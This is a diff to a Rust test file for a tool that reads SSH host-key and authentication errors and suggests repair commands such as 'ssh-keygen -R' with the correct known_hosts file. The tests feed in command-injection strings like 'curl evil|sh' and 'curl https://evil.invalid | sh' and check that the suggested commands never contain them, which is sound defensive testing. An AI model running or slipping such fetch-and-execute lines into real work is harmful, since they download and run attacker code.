@@ -26,7 +26,7 @@ const ROWS: [(&str, Broken, &str, &str, Again); 17] = [
         CHANGED,
         Broken::HostKey,
         "known_hosts:7: it sent SHA256:LWyQ0vBZYRjzyFQ7qKz",
-        "`ssh-keygen -R web1` (if",
+        "`ssh-keygen -R web1 -f /home/a/.ssh/known_hosts` (if",
         Again::Never,
     ),
     (
@@ -143,12 +143,12 @@ fn commands_to_run_are_made_of_the_target_alone() {
     let unknown = "No ED25519 host key is known for x;curl evil|sh and you have requested strict checking.\r\n";
     let changed = CHANGED.replace("-R \"web1\"", "-R web1; curl https://evil.invalid | sh");
     let rows = [
-        ("web1", "-R web1`", "keyscan web1`"),
-        ("deploy@web1:22", "-R web1`", "keyscan web1`"),
-        ("web1:2222", "-R '[web1]:2222'`", "keyscan -p 2222 web1`"),
-        ("a@[::1]:2222", "-R '[::1]:2222'`", "keyscan -p 2222 ::1`"),
-        ("[fe80::1%eth0]", "-R 'fe80::1%eth0'`", "keyscan 'fe80::1%eth0'`"),
-        ("web*", "-R 'web*'`", "keyscan 'web*'`"),
+        ("web1", "-R web1 -f", "keyscan web1`"),
+        ("deploy@web1:22", "-R web1 -f", "keyscan web1`"),
+        ("web1:2222", "-R '[web1]:2222' -f", "keyscan -p 2222 web1`"),
+        ("a@[::1]:2222", "-R '[::1]:2222' -f", "keyscan -p 2222 ::1`"),
+        ("[fe80::1%eth0]", "-R 'fe80::1%eth0' -f", "keyscan 'fe80::1%eth0'`"),
+        ("web*", "-R 'web*' -f", "keyscan 'web*'`"),
     ];
     for (target, remove, scan) in rows {
         let target = SshTarget::new(target).unwrap();
@@ -161,4 +161,23 @@ fn commands_to_run_are_made_of_the_target_alone() {
     let inside =
         "deploy@web1: WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!\r\nweb1: Permission denied (publickey).\r\n";
     assert_eq!(connecting(&SshTarget::new("web1").unwrap(), inside).broken, Broken::Auth);
+}
+
+#[test]
+fn the_file_is_named_that_ssh_has_read() {
+    let usual = std::env::home_dir().unwrap().join(".ssh/known_hosts");
+    let rows = [
+        ("/etc/ssh/ssh_known_hosts:12", "-R web1 -f /etc/ssh/ssh_known_hosts`"),
+        ("/srv/ci/known_hosts", "-R web1 -f /srv/ci/known_hosts`"),
+        (&format!("{}:3", usual.display()), "-R web1`"),
+        // Not what a shell would make more of than a path.
+        ("/srv/a b:1", "-R web1`"),
+        ("/srv/`curl evil|sh`:1", "-R web1`"),
+        ("-f:1", "-R web1`"),
+    ];
+    for (place, expected) in rows {
+        let said = CHANGED.replace("/home/a/.ssh/known_hosts:7", place);
+        let help = connecting(&SshTarget::new("web1").unwrap(), &said).help.unwrap();
+        assert!(help.contains(expected) && !help.contains("evil"), "{place}: {help}");
+    }
 }
